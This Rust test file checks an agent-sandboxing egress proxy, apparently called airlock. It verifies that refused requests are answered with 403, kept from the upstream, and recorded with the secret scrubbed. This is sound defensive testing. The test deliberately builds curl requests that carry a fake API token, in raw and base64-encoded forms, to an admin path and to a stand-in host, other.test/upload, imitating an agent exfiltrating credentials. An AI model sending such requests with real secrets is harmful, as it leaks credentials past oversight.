//! What an agent tried to send: the body of a refused request is on record
//! (up to the capture cap, every form of a credential's secret scrubbed to
//! `[secret:NAME]`) and never reaches the upstream, whichever step refused
//! it (path, method, host, body constraint, quota), over HTTP/1.1 and
//! HTTP/2, with Content-Length or chunked. A huge body is kept up to the cap
//! with its total length; a stalled one neither holds the 403 nor goes
//! unrecorded. Real curl and python3 in `airlock run`, a real TLS upstream,
//! the record read back through `airlock audit export` (JSONL and HAR) and
//! the database's bytes grepped for the secret. Held (`[[ask]]`) requests
//! that are denied or expire are covered in tests/approvals.rs, the
//! console's page in tests/console.rs.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use airlock_test_support::audit_cli::{audit_cli, export_jsonl, first_session_id};
use airlock_test_support::pki::TestPki;
use airlock_test_support::upstream::Upstream;
use base64::Engine as _;
use serde_json::Value;

const AIRLOCK: &str = airlock_test_support::airlock_bin!();

/// The credential's secret: the sandbox has only a placeholder, but these
/// tests play an agent that learned it and tries to send it out.
const SECRET: &str = "sk-refused-5e1f0a7c3b9d";

/// The proxy's default capture cap (`DEFAULT_CAPTURE_CAP`).
const CAP: usize = 64 * 1024;

/// A recorded `airlock run` of one script against `api.test` (and
/// `other.test`, which no rule names), both served by the test's upstream.
struct Run {
    dir: tempfile::TempDir,
    upstream: Upstream,
    _pki: TestPki,
    id: String,
    stdout: String,
    elapsed: Duration,
}

impl Run {
    /// `files` are written into the workspace first (payloads stay out of
    /// the command line, so only the proxy's record could hold them); PORT
    /// in the rules, the script and `.py` files is the upstream's port.
    async fn start(rules: &str, files: &[(&str, Vec<u8>)], script: &str) -> Self {
        let pki = TestPki::new();
        let upstream = Upstream::start(Some(pki.server_config(&["api.test", "other.test"]))).await;
        let dir = tempfile::tempdir().unwrap();
        let port = upstream.port();
        let policy = dir.path().join("policy.toml");
        std::fs::write(
            &policy,
            format!(
                "version = 1\n{}\n[[credential]]\nname = \"api\"\nhosts = [\"api.test\"]\nheader = \"Authorization\"\nvalue = \"Bearer ${{env:REFUSED_TOKEN}}\"\n",
                rules.replace("PORT", &port.to_string())
            ),
        )
        .unwrap();
        let ws = dir.path().join("ws");
        std::fs::create_dir(&ws).unwrap();
        for (name, content) in files {
            let content = match std::str::from_utf8(content) {
                Ok(text) if name.ends_with(".py") => {
                    text.replace("PORT", &port.to_string()).into_bytes()
                }
                _ => content.clone(),
            };
            std::fs::write(ws.join(name), content).unwrap();
        }
        let script = script.replace("PORT", &port.to_string());
        let (db_path, key) = (db(dir.path()), dir.path().join("audit/audit.key"));
        let ca = pki.ca_pem.clone();
        let started = Instant::now();
        let out = tokio::task::spawn_blocking(move || {
            Command::new(AIRLOCK)
                .current_dir(&ws)
                .arg("run")
                .arg("--policy")
                .arg(&policy)
                .arg("--workspace")
                .arg(&ws)
                .arg("--upstream-ca")
                .arg(&ca)
                .args(["--resolve", "api.test:127.0.0.1"])
                .args(["--resolve", "other.test:127.0.0.1"])
                .arg("--audit-db")
                .arg(&db_path)
                .arg("--audit-key")
                .arg(&key)
                .args(["--no-tty", "--timeout", "120s", "--", "sh", "-c", &script])
                .env("REFUSED_TOKEN", SECRET)
                .output()
                .unwrap()
        })
        .await
        .unwrap();
        let elapsed = started.elapsed();
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        Self {
            id: first_session_id(AIRLOCK, &db(dir.path()), &out),
            dir,
            upstream,
            _pki: pki,
            stdout,
            elapsed,
        }
    }

    fn db(&self) -> PathBuf {
        db(self.dir.path())
    }

    fn jsonl(&self) -> Vec<Value> {
        export_jsonl(AIRLOCK, &self.db(), &self.id)
    }

    fn har(&self) -> Value {
        let out = self.dir.path().join("s.har");
        let done = audit_cli(
            AIRLOCK,
            &self.db(),
            &[
                "export",
                &self.id,
                "--format",
                "har",
                "--out",
                out.to_str().unwrap(),
            ],
        );
        assert!(done.status.success(), "{done:?}");
        serde_json::from_str(&std::fs::read_to_string(out).unwrap()).unwrap()
    }

    /// The client's line for `tag` (`TAG CODE`): the status it got.
    fn status_of(&self, tag: &str) -> String {
        self.stdout
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{tag} ")))
            .unwrap_or_else(|| panic!("no answer for {tag}: {}", self.stdout))
            .to_owned()
    }

    /// No database file holds the secret, literally or in base64.
    fn assert_db_has_no_secret(&self) {
        let b64 = base64::engine::general_purpose::STANDARD.encode(SECRET);
        for file in ["audit.db", "audit.db-wal", "audit.db-shm"] {
            if let Ok(bytes) = std::fs::read(self.db().parent().unwrap().join(file)) {
                for form in [SECRET, b64.as_str()] {
                    assert!(
                        !bytes.windows(form.len()).any(|w| w == form.as_bytes()),
                        "{form} in {file}"
                    );
                }
            }
        }
    }
}

fn db(dir: &Path) -> PathBuf {
    dir.join("audit/audit.db")
}

/// The latest `http` record of the one exchange whose URL has `?v=TAG`.
fn http<'a>(events: &'a [Value], tag: &str) -> &'a Value {
    let found: Vec<&Value> = events
        .iter()
        .filter(|e| {
            e["kind"] == "http"
                && e["url"]
                    .as_str()
                    .is_some_and(|u| u.ends_with(&format!("v={tag}")))
        })
        .collect();
    let last = found
        .last()
        .unwrap_or_else(|| panic!("no http record for {tag}"));
    assert!(
        found.iter().all(|e| e["exchange"] == last["exchange"]),
        "one exchange for {tag}: {found:#?}"
    );
    last
}

/// A record without its bodies, for failure messages.
fn brief(record: &Value) -> Value {
    let mut record = record.clone();
    if let Some(map) = record.as_object_mut() {
        map.remove("request_body");
        map.remove("response_body");
    }
    record
}

/// A record's request body, decoded.
fn body_of(record: &Value) -> Vec<u8> {
    let b64 = record["request_body"]
        .as_str()
        .unwrap_or_else(|| panic!("no request body on record: {:#}", brief(record)));
    base64::engine::general_purpose::STANDARD
        .decode(b64)
        .unwrap()
}

/// `curl` of a POST whose body is `file`, printing `TAG CODE`.
fn curl(tag: &str, flags: &str, url: &str) -> String {
    format!(
        "printf '{tag} '; curl -sS --max-time 60 -o /dev/null -w '%{{http_code}}\\n' {flags} '{url}?v={tag}' || echo failed\n"
    )
}

/// The payload of variant `tag`: its name, the secret in three forms, and
/// a tail that shows the body was kept to its end.
fn payload(tag: &str) -> Vec<u8> {
    let b64 = base64::engine::general_purpose::STANDARD.encode(SECRET);
    let url_b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(SECRET);
    format!(
        "exfil={tag}&token={SECRET}&b64={b64}&u={url_b64}&upper={}&end-of-{tag}",
        SECRET.to_uppercase()
    )
    .into_bytes()
}

/// The payload as the record must keep it (the base64 form's padding is
/// not the secret's, and stays).
fn scrubbed(tag: &str) -> String {
    format!(
        "exfil={tag}&token=[secret:api]&b64=[secret:api]=&u=[secret:api]&upper=[secret:api]&end-of-{tag}"
    )
}

const RULES: &str = r#"
[[allow]]
host = "api.test"
port = PORT
methods = ["GET"]
paths = ["/echo"]

[[allow]]
host = "api.test"
port = PORT
methods = ["POST"]
paths = ["/pay"]
[allow.body]
amount = { max = 100 }

[[allow]]
host = "api.test"
port = PORT
methods = ["POST"]
paths = ["/once"]
max_requests = 1
"#;

#[tokio::test(flavor = "multi_thread")]
async fn every_refused_request_keeps_its_body_on_record_scrubbed_and_the_upstream_never_sees_it() {
    let api = "https://api.test:PORT";
    let other = "https://other.test:PORT";
    // (tag, the curl flags, the URL): every step that refuses, over both
    // protocols, with a Content-Length and without one (chunked on
    // HTTP/1.1; uploaded from stdin with -T, curl does not know the length).
    let variants: Vec<(&str, String, String)> = vec![
        (
            "path-h1",
            "--http1.1 --data-binary @path-h1".into(),
            format!("{api}/admin/keys"),
        ),
        (
            "path-h2",
            "--http2 --data-binary @path-h2".into(),
            format!("{api}/admin/keys"),
        ),
        (
            "method-chunked",
            "--http1.1 -X PUT -H 'Transfer-Encoding: chunked' --data-binary @method-chunked".into(),
            format!("{api}/echo"),
        ),
        (
            "method-h2-stream",
            "--http2 -X DELETE -T - < method-h2-stream".into(),
            format!("{api}/echo"),
        ),
        (
            "host-h1",
            "--http1.1 --data-binary @host-h1".into(),
            format!("{other}/upload"),
        ),
        (
            "host-h2",
            "--http2 --data-binary @host-h2".into(),
            format!("{other}/upload"),
        ),
        (
            "body-h1",
            "--http1.1 -H 'content-type: application/json' --data-binary @body-h1".into(),
            format!("{api}/pay"),
        ),
        (
            "body-h2-stream",
            "--http2 -X POST -H 'content-type: application/json' -T - < body-h2-stream".into(),
            format!("{api}/pay"),
        ),
        // The quota's one request, then two refused.
        (
            "quota-first",
            "--http1.1 --data-binary first".into(),
            format!("{api}/once"),
        ),
        (
            "quota-chunked",
            "--http1.1 -H 'Transfer-Encoding: chunked' --data-binary @quota-chunked".into(),
            format!("{api}/once"),
        ),
        (
            "quota-h2",
            "--http2 --data-binary @quota-h2".into(),
            format!("{api}/once"),
        ),
    ];
    let mut files = Vec::new();
    let mut script = String::new();
    for (tag, flags, url) in &variants {
        let body = if tag.starts_with("body") {
            // Refused by its constraint: amount over 100, the secret in a field.
            let text = String::from_utf8(payload(tag)).unwrap();
            format!(r#"{{"amount": 1000000, "note": "{text}"}}"#).into_bytes()
        } else {
            payload(tag)
        };
        files.push((*tag, body));
        script.push_str(&curl(tag, flags, url));
    }
    let run = Run::start(RULES, &files, &script).await;

    // Every refused one got its 403; only the quota's first went out, and
    // not one byte of a refused body did.
    for (tag, ..) in &variants {
        let want = if *tag == "quota-first" { "200" } else { "403" };
        assert_eq!(run.status_of(tag), want, "{tag}: {}", run.stdout);
    }
    assert_eq!(run.upstream.targets(), vec!["/once?v=quota-first"]);

    let events = run.jsonl();
    for (tag, ..) in variants.iter().filter(|(t, ..)| *t != "quota-first") {
        let record = http(&events, tag);
        assert_eq!(record["decision"], "deny", "{tag}: {:#}", brief(record));
        assert_eq!(record["status"], 403, "{tag}: {:#}", brief(record));
        let body = String::from_utf8(body_of(record)).unwrap();
        let want = if tag.starts_with("body") {
            format!(r#"{{"amount": 1000000, "note": "{}"}}"#, scrubbed(tag))
        } else {
            scrubbed(tag)
        };
        assert_eq!(body, want, "{tag}: {:#}", brief(record));
        assert_eq!(record["request_body_truncated"], false, "{tag}");
        let sent = files.iter().find(|(t, _)| t == tag).unwrap().1.len();
        assert_eq!(record["bytes_up"], sent, "{tag}: {:#}", brief(record));
    }
    let reason = |tag| {
        http(&events, tag)["reason"]
            .as_str()
            .unwrap_or("")
            .to_owned()
    };
    assert!(
        reason("host-h2").contains("no rule allows"),
        "{}",
        reason("host-h2")
    );
    assert!(
        reason("quota-h2").contains("quota"),
        "{}",
        reason("quota-h2")
    );

    // The HAR has it as postData, scrubbed too.
    let har = run.har();
    let entries = har["log"]["entries"].as_array().unwrap();
    for (tag, ..) in variants
        .iter()
        .filter(|(t, ..)| !t.starts_with("body") && *t != "quota-first")
    {
        let entry = entries
            .iter()
            .find(|e| {
                e["request"]["url"]
                    .as_str()
                    .unwrap()
                    .ends_with(&format!("v={tag}"))
            })
            .unwrap_or_else(|| panic!("no HAR entry for {tag}"));
        assert_eq!(
            entry["request"]["postData"]["text"],
            scrubbed(tag),
            "{entry:#}"
        );
    }
    assert!(!har.to_string().contains(SECRET));
    run.assert_db_has_no_secret();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_or_stalled_refused_body_is_kept_up_to_the_cap_and_its_403_comes_at_once() {
    const HUGE: usize = 8 * 1024 * 1024;
    let huge: Vec<u8> = (0..HUGE).map(|i| b'a' + (i % 26) as u8).collect();
    // A client that sends its head and 18 bytes of 100,000, then stalls.
    let slow = r#"
import socket, ssl, time
ctx = ssl.create_default_context()
s = ctx.wrap_socket(socket.create_connection(("api.test", PORT)), server_hostname="api.test")
s.sendall(b"POST /admin/slow?v=slow HTTP/1.1\r\nHost: api.test:PORT\r\nContent-Length: 100000\r\n\r\nslow-payload-start")
t = time.time()
s.settimeout(60)
line = s.recv(65536).split(b"\r\n")[0].decode()
print("slow", line, round(time.time() - t, 1))
"#;
    let script = format!(
        "{}{}python3 slow.py\n",
        curl(
            "huge-h1",
            "--http1.1 --data-binary @huge",
            "https://api.test:PORT/admin/keys"
        ),
        curl(
            "huge-h2-stream",
            "--http2 -X POST -T - < huge",
            "https://api.test:PORT/admin/keys"
        ),
    );
    let files = vec![
        ("huge", huge.clone()),
        ("slow.py", slow.as_bytes().to_vec()),
    ];
    let run = Run::start(RULES, &files, &script).await;
    assert_eq!(run.upstream.hits(), 0);

    let events = run.jsonl();
    for tag in ["huge-h1", "huge-h2-stream"] {
        let record = http(&events, tag);
        assert_eq!(record["decision"], "deny", "{tag}: {:#}", brief(record));
        assert!(
            body_of(record) == huge[..CAP],
            "{tag}: not the first 64 KiB"
        );
        assert_eq!(record["request_body_truncated"], true, "{tag}");
        let total = record["bytes_up"].as_u64().unwrap();
        if tag == "huge-h1" {
            // Declared: the whole length, although the proxy read only the cap.
            assert_eq!(total, HUGE as u64, "{:#}", brief(record));
        } else {
            assert!(
                total >= CAP as u64 && total < HUGE as u64,
                "{:#}",
                brief(record)
            );
        }
    }
    // The client, still sending, read its 403 (not a reset connection).
    for tag in ["huge-h1", "huge-h2-stream"] {
        assert_eq!(run.status_of(tag), "403", "{tag}: {}", run.stdout);
    }

    // The stalled client got its 403 within the bound, not after its body.
    let slow = run
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("slow "))
        .unwrap_or_else(|| panic!("{}", run.stdout));
    let (line, waited) = slow.rsplit_once(' ').unwrap();
    assert_eq!(line, "HTTP/1.1 403 Forbidden", "{slow}");
    let waited: f64 = waited.parse().unwrap();
    assert!(waited < 10.0, "the 403 took {waited} s");
    let record = http(&events, "slow");
    assert_eq!(
        body_of(record),
        b"slow-payload-start",
        "{:#}",
        brief(record)
    );
    assert_eq!(
        record["request_body_truncated"],
        true,
        "{:#}",
        brief(record)
    );
    assert_eq!(record["bytes_up"], 100_000, "{:#}", brief(record));
    assert!(run.elapsed < Duration::from_secs(60), "{:?}", run.elapsed);
}
